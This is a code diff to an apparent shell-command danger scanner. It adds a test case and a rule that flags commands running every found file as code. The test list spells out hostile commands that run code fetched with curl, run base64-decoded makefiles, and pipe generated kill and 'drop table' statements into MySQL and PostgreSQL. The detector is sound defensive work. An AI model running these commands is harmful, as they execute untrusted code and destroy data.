@@ -48,6 +48,7 @@ MATCHES = (
     "java -jar <(curl -s http://h/a.jar)",
     "sqlite3 a.db < <(curl -s http://h/a.sql)",
     "make -f <(base64 -d m.b64)",
+    "find . -name Makefile -exec make -f {} \\;",
     'mysqladmin processlist | awk \'{print "kill "$2";"}\' | mysql',
     "psql -Atc \"select 'drop table '||tablename from pg_tables\" | psql",
 )
@@ -91,6 +92,8 @@ def inspect(script: Script) -> Iterator[Finding]:
                     )
                 ):
                     yield danger(Reason.NETWORK_EXEC, _MESSAGE, node.program or "")
+                elif any(word.shape in ("{}", "$FOUND") for word in code):
+                    yield danger(Reason.INDIRECT, "runs every file that is found as code", node.program or "")
                 elif any(_is_fetched(word, "decoder") for word in code if word.shape.startswith("<(")):
                     yield danger(Reason.INDIRECT, _HIDDEN, node.program or "")
                 if node.program in _DATABASES and any(map(_writes_out_harm, before)):
